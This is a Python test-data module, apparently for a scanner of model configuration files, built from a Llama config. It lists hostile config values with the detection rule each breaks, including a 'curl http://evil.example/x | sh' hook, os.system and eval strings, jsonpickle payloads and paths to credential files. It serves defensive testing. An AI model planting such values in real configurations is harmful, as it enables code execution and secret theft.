"""Configurations that make a loader fetch, import or run something, and ordinary ones that do not.

Each hostile case is a name, a file name, the bytes and the one rule that must be broken. `ATTACKS` are keys and values that
act wherever they stand: each is put at the top, into a nested configuration and twenty levels deep.
"""

from __future__ import annotations

import json
import lzma
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

DATA = Path(__file__).parents[1] / "data"

LLAMA: dict[str, object] = {
    "architectures": ["LlamaForCausalLM"],
    "attention_bias": False,
    "attention_dropout": 0.0,
    "bos_token_id": 128000,
    "eos_token_id": [128001, 128008, 128009],
    "hidden_act": "silu",
    "hidden_size": 4096,
    "initializer_range": 0.02,
    "intermediate_size": 14336,
    "max_position_embeddings": 131072,
    "model_type": "llama",
    "num_attention_heads": 32,
    "num_hidden_layers": 32,
    "num_key_value_heads": 8,
    "pretraining_tp": 1,
    "rms_norm_eps": 1e-05,
    "rope_scaling": {
        "factor": 8.0,
        "high_freq_factor": 4.0,
        "low_freq_factor": 1.0,
        "original_max_position_embeddings": 8192,
        "rope_type": "llama3",
    },
    "rope_theta": 500000.0,
    "tie_word_embeddings": False,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.42.3",
    "use_cache": True,
    "vocab_size": 128256,
}


class Hostile(NamedTuple):
    """A file and the rule it breaks."""

    name: str
    path: str
    data: bytes
    rule: str


def dump(value: object) -> bytes:
    """A configuration as transformers writes it."""
    return (json.dumps(value, indent=2, sort_keys=True) + "\n").encode()


def configurations_of_transformers() -> dict[str, dict[str, object]]:
    """The default configuration of every model type of transformers 5.23, as it is saved."""
    return json.loads(lzma.decompress((DATA / "transformers-configs.json.xz").read_bytes()))


def tokenizers_of_transformers() -> dict[str, dict[str, object]]:
    """The `tokenizer.json` of 52 tokenizer classes of transformers 5.23, with the start of their vocabularies."""
    return json.loads(lzma.decompress((DATA / "transformers-tokenizers.json.xz").read_bytes()))


ATTACKS: list[tuple[str, str, object, str]] = [
    ("local class", "auto_map", {"AutoModel": "modeling_x.XModel"}, "remote-code"),
    ("local class in a folder", "auto_map", {"AutoModel": "code.modeling_x.XModel"}, "remote-code"),
    ("local tokenizers", "auto_map", {"AutoTokenizer": ["tokenization_x.XTokenizer", None]}, "remote-code"),
    ("local tokenizers as list", "auto_map", ["tokenization_x.XTokenizer", None], "remote-code"),
    ("code as text", "auto_map", "modeling_x.XModel", "remote-code"),
    ("other repository", "auto_map", {"AutoModel": "evil/repo--modeling_x.XModel"}, "remote-code-elsewhere"),
    ("other repository, fast", "auto_map", {"AutoTokenizer": [None, "evil/repo--t.T"]}, "remote-code-elsewhere"),
    ("other repository without owner", "auto_map", {"AutoModel": "repo--modeling_x.X"}, "remote-code-elsewhere"),
    ("code above", "auto_map", {"AutoModel": "../evil.Model"}, "code-reference-escape"),
    ("code by absolute path", "auto_map", {"AutoModel": "/tmp/evil.Model"}, "code-reference-escape"),
    ("code by address", "auto_map", {"AutoModel": "https://evil.example/x.Model"}, "code-reference-escape"),
    ("climbing repository", "auto_map", {"AutoModel": "../..--modeling_x.X"}, "code-reference-escape"),
    ("two repositories", "auto_map", {"AutoModel": "a/b--c/d--modeling.X"}, "code-reference-escape"),
    ("no class", "auto_map", {"AutoModel": "modeling_x"}, "code-reference-escape"),
    ("code as object", "auto_map", {"AutoModel": {"x": 1}}, "code-reference-escape"),
    ("code as number", "auto_map", {"AutoModel": 3}, "code-reference-escape"),
    ("code with a call", "auto_map", {"AutoModel": "os.system('id')"}, "code-reference-escape"),
    ("pipeline here", "custom_pipelines", {"x": {"impl": "pipe.XPipeline", "pt": ["AutoModel"]}}, "remote-code"),
    ("pipeline elsewhere", "custom_pipelines", {"x": {"impl": "a/b--pipe.X"}}, "remote-code-elsewhere"),
    ("pipeline above", "custom_pipelines", {"x": {"impl": "../pipe.X"}}, "code-reference-escape"),
    ("pipeline as number", "custom_pipelines", {"x": {"impl": 1}}, "code-reference-escape"),
    ("generation", "custom_generate", "a/b--generate.generate", "remote-code-elsewhere"),
    ("tool", "tool_class", "text_to_image.Tool", "remote-code"),
    ("trust", "trust_remote_code", True, "trust-remote-code"),
    ("trust as number", "trust_remote_code", 1, "trust-remote-code"),
    ("trust as text", "trust_remote_code", "true", "trust-remote-code"),
    ("kernel", "_attn_implementation", "evil/kernel", "hub-kernel"),
    ("kernel, public key", "attn_implementation", "evil/kernel", "hub-kernel"),
    ("kernel, inner key", "_attn_implementation_internal", "evil/kernel", "hub-kernel"),
    ("kernel with revision", "_attn_implementation", "evil/kernel@v1", "hub-kernel"),
    ("kernel with function", "_attn_implementation", "evil/kernel:flash_attn", "hub-kernel"),
    ("paged kernel", "_attn_implementation", "paged|evil/kernel", "hub-kernel"),
    ("kernel by part", "_attn_implementation", {"text_config": "evil/kernel", "": "sdpa"}, "hub-kernel"),
    ("expert kernel", "_experts_implementation", "evil/kernel", "hub-kernel"),
    ("expert kernel, inner", "_experts_implementation_internal", "evil/kernel", "hub-kernel"),
    ("kernel mapping", "kernel_config", {"kernel_mapping": {"RMSNorm": "evil/layers:RMSNorm"}}, "hub-kernel"),
    ("kernel path", "attn_implementation", "/tmp/kernel", "hub-kernel"),
    ("community kernel", "_attn_implementation", "kernels-community/flash-attn3", "hub-kernel-community"),
    ("kernels", "use_kernels", True, "kernels"),
    ("hydra: system", "_target_", "os.system", "dangerous-callable"),
    ("hydra: eval", "_target_", "builtins.eval", "dangerous-callable"),
    ("hydra: popen", "_target_", "subprocess.Popen", "dangerous-callable"),
    ("hydra: import", "_target_", "importlib.import_module", "dangerous-callable"),
    ("hydra: hub", "_target_", "torch.hub.load", "dangerous-callable"),
    ("hydra: pydoc", "_target_", "pydoc.pipepager", "dangerous-callable"),
    ("hydra: runpy", "_target_", "runpy.run_path", "dangerous-callable"),
    ("hydra: joblib", "_target_", "joblib.load", "dangerous-callable"),
    ("hydra: own class", "_target_", "acme.models.Network", "callable"),
    ("hydra: expression", "_target_", "os.system('id')", "dangerous-callable"),
    ("hydra: text", "_target_", "a b; c", "code-reference-escape"),
    ("lightning", "class_path", "subprocess.run", "dangerous-callable"),
    ("latent diffusion", "target", "os.system", "dangerous-callable"),
    ("class attribute", "__class__", "subprocess.Popen", "dangerous-callable"),
    ("module name", "megatron_core", "evil_module", "callable"),
    ("module name, dangerous", "megatron_core", "antigravity", "dangerous-callable"),
    ("peft parent", "auto_mapping", {"base_model_class": "X", "parent_library": "evil.module"}, "callable"),
    ("peft parent, remote", "auto_mapping", {"parent_library": "transformers_modules.a.b.modeling_x"}, "callable"),
    ("peft parent, dangerous", "auto_mapping", {"parent_library": "subprocess"}, "dangerous-callable"),
    ("activation", "activation_function", "os.system", "dangerous-callable"),
    ("activation of a package", "activation_fn", "evil.Activation", "callable"),
    ("operators from a library", "session_options", {"custom_ops_library": "libevil.so"}, "native-library"),
    ("pattern of an answer", "response_template", {"start_anchor_pattern": "(a+)+$"}, "regex"),
    ("modules that are imported", "custom_imports", {"imports": ["evil.module"]}, "callable"),
    ("jsonpickle object", "py/object", "os.system", "pickled-object"),
    ("jsonpickle reduce", "py/reduce", [{"py/type": "subprocess.Popen"}, {"py/tuple": ["id"]}], "pickled-object"),
    ("jsonpickle function", "py/function", "builtins.eval", "pickled-object"),
    ("keras lambda", "layers", [{"class_name": "Lambda", "config": {"function": ["4wEA", None, None]}}], "keras-lambda"),
    ("keras function", "f", {"class_name": "__lambda__", "config": {"value": "4wEA"}}, "keras-lambda"),
    ("keras module", "l", {"class_name": "run", "module": "subprocess", "config": {}}, "dangerous-callable"),
    ("langchain", "x", {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}, "dangerous-callable"),
    ("langchain secret", "x", {"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}, "interpolation"),
    ("vocabulary elsewhere", "vocab_file", "/etc/passwd", "path-escape"),
    ("vocabulary above", "vocab_file", "../../../secret.txt", "path-escape"),
    ("vocabulary on a share", "vocab_file", "\\\\evil\\share\\vocab.txt", "path-escape"),
    ("vocabulary from the net", "vocab_file", "http://evil.example/vocab.txt", "path-escape"),
    ("vocabulary as file address", "tokenizer_file", "file:///etc/shadow", "path-escape"),
    ("vocabulary of the home", "tokenizer_file", "~/.ssh/id_rsa", "path-escape"),
    ("vocabulary by variable", "spm_file", "$HOME/.aws/credentials", "path-escape"),
    ("vocabulary of a process", "merges_file", "/proc/self/environ", "path-escape"),
    ("pickled vocabulary", "pretrained_vocab_file", "vocab.pkl", "pickle-reference"),
    ("absolute vocabulary", "vocab_file", "/data/vocab.txt", "absolute-path"),
    ("base model by address", "base_model_name_or_path", "http://evil.example/model", "path-escape"),
    ("base model by file", "base_model_name_or_path", "file:///etc", "path-escape"),
    ("base model of the system", "_name_or_path", "/etc/shadow", "path-escape"),
    ("base model on a share", "name_or_path", "//evil/share/model", "path-escape"),
    ("pickles", "allow_pickle", True, "allow-pickle"),
    ("weights only", "weights_only", False, "allow-pickle"),
    ("evaluated", "conv_feature_layers", "__import__('os').system('id')", "evaluated-text"),
    ("environment", "api_base", "${oc.env:OPENAI_API_KEY}", "interpolation"),
    ("architecture", "architectures", ["../../evil"], "odd-name"),
    ("architecture call", "architectures", ["__import__('os')"], "odd-name"),
    ("dangerous architecture", "architectures", ["os.system"], "dangerous-callable"),
    ("model type", "model_type", "a/../b", "odd-name"),
    ("tokenizer class", "tokenizer_class", "http://x/y", "odd-name"),
    ("versioned files", "configuration_files", ["config." + "4." * 40 + "json"], "odd-name"),
    ("versioned files above", "fast_tokenizer_files", ["../tokenizer.4.0.json"], "odd-name"),
    ("dtype", "torch_dtype", "hub.load", "dtype"),
    ("import", "hook", "__import__('os').system('id')", "code-text"),
    ("eval", "activation", "eval(compile('x', 'y', 'exec'))", "code-text"),
    ("shell", "hook", "curl http://evil.example/x | sh", "code-text"),
    ("globals", "x", "{{ cycler.__init__.__globals__.os }}", "code-text"),
    ("call by name", "loss", "os.system", "dangerous-callable"),
    ("call by name in a list", "steps", ["subprocess.call"], "dangerous-callable"),
    ("reordered", "author", "abc\u202egnp.exe", "hidden-text"),
    ("tag characters", "author", "x" + "".join(chr(0xE0000 + ord(c)) for c in "run me"), "hidden-text"),
]  # fmt: skip


def _deep(key: str, value: object, levels: int) -> dict[str, object]:
    inner: object = {key: value}
    for level in range(levels):
        inner = {"sub_config": inner} if level % 2 else [{"x": level}, inner]
    return {"deep": inner}


def _attacks() -> Iterator[Hostile]:
    for name, key, value, rule in ATTACKS:
        spots: dict[str, dict[str, object]] = {
            "top": {key: value},
            "nested": {"text_config": {"hidden_size": 8, key: value}},
            "deep": _deep(key, value, 20),
        }
        for spot, config in spots.items():
            yield Hostile(f"{name}, {spot}", "config.json", dump({**LLAMA, **config}), f"config-{rule}")


def _pipeline(**components: object) -> bytes:
    base: dict[str, object] = {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.6.0",
        "unet": ["diffusers", "UNet2DConditionModel"],
        "text_encoder": ["transformers", "CLIPTextModel"],
    }
    return dump({**base, **components})


def _modules(kind: object, path: str = "") -> bytes:
    return dump([{"idx": 0, "name": "0", "path": path, "type": kind}])


def _index(*names: object) -> bytes:
    return dump({"metadata": {"total_size": 1}, "weight_map": {f"layer.{n}": name for n, name in enumerate(names)}})


def _files() -> Iterator[Hostile]:
    pipelines: list[tuple[str, dict[str, object], str]] = [
        ("own pipeline", {"_class_name": ["pipeline_x", "XPipeline"]}, "remote-code"),
        ("hidden pipeline", {"_class_name": [None, "XPipeline"]}, "code-reference-escape"),
        ("pipeline above", {"_class_name": ["../x", "XPipeline"]}, "code-reference-escape"),
        ("own component", {"unet": ["my_unet", "MyUNet"]}, "remote-code"),
        ("component without text", {"unet": [["my_unet"], "MyUNet"]}, "code-reference-escape"),
        ("component of null", {"unet": [None, "MyUNet"]}, "code-reference-escape"),
        ("dangerous component", {"unet": ["os", "system"]}, "dangerous-callable"),
        ("component elsewhere", {"unet": ["evil/repo--my_unet", "MyUNet"]}, "remote-code-elsewhere"),
        ("component above", {"unet": ["../../tmp/x", "MyUNet"]}, "code-reference-escape"),
        ("component by address", {"unet": ["https://evil.example/x", "M"]}, "code-reference-escape"),
    ]
    for name, components, rule in pipelines:
        yield Hostile(name, "model_index.json", _pipeline(**components), f"config-{rule}")
    modules: list[tuple[str, object, str, str]] = [
        ("own module", "custom_st.Transformer", "", "remote-code"),
        ("module elsewhere", "evil/repo--custom_st.Transformer", "", "remote-code-elsewhere"),
        ("module of a package", "acme.models.pooling.Pooling", "", "callable"),
        ("dangerous module", "os.system", "", "dangerous-callable"),
        ("dangerous module, deep", "os.path.os.system", "", "dangerous-callable"),
        ("module as number", 1, "", "code-reference-escape"),
        ("module above", "sentence_transformers.models.Dense", "../../x", "path-escape"),
        ("module at the root", "sentence_transformers.models.Dense", "/etc", "path-escape"),
    ]
    for name, kind, path, rule in modules:
        yield Hostile(name, "modules.json", _modules(kind, path), f"config-{rule}")
    for name, target in {
        "above": "../model.safetensors", "far above": "x/../../../etc/passwd", "absolute": "/etc/passwd",
        "address": "https://evil.example/m.safetensors", "drive": "C:\\m.safetensors", "share": "\\\\evil\\m.safetensors",
        "home": "~/.ssh/id_rsa", "file": "file:///etc/passwd", "backslash": "..\\m.safetensors", "nul": "a\x00b",
    }.items():  # fmt: skip
        path = "model.safetensors.index.json"
        yield Hostile(f"index {name}", path, _index("model-00001-of-00001.safetensors", target), "config-index-escape")
    for name, value in {"number": 1, "null": None, "list": ["x"], "empty": ""}.items():
        yield Hostile(f"index of {name}", "pytorch_model.bin.index.json", _index(value), "config-index-malformed")
    yield Hostile("index as list", "a.index.json", dump({"weight_map": ["x"]}), "config-index-malformed")
    texts = {
        "twice": (b'{"auto_map": {}, "model_type": "x", "auto_map": {"AutoModel": "a.B"}}', "duplicate-key"),
        "twice, deep": (b'{"a": {"b": [{"c": 1, "c": 2}]}}', "duplicate-key"),
        "marked": (b'\xef\xbb\xbf{"a": 1}', "byte-order-mark"),
        "more": (b'{"a": 1} {"auto_map": {}}', "trailing-data"),
        "program behind": (b'{"a": 1}\nimport os', "trailing-data"),
        "comment": (b'{"a": 1 /* x */}', "not-understood"),
        "single quotes": (b"{'a': 1}", "not-understood"),
        "trailing comma": (b'{"a": [1,]}', "not-understood"),
        "cut": (b'{"a": [1, ', "not-understood"),
        "half a text": (b'{"a": "b', "not-understood"),
        "control in text": (b'{"a": "b\nc"}', "not-understood"),
        "nested": (b'{"a":' + b"[" * 101 + b"]" * 101 + b"}", "not-understood"),
        "nested for ever": (b"[" * 200_000 + b"]" * 200_000, "not-understood"),
        "huge number": (b'{"a": ' + b"9" * 5000 + b"}", "not-understood"),
        "latin": (b'{"a": "' + b"x" * 9000 + b'\xe9"}', "not-understood"),
    }
    for name, (data, rule) in texts.items():
        yield Hostile(f"text {name}", "config.json", data, f"config-{rule}")
    yield Hostile("hidden key", "config.json", dump({"auto_\u200bmap": "x"}), "config-hidden-text")
    yield Hostile("arguments", "training_args.json", dump({"trust_remote_code": True}), "config-trust-mentioned")


HOSTILE: list[Hostile] = [*_attacks(), *_files()]
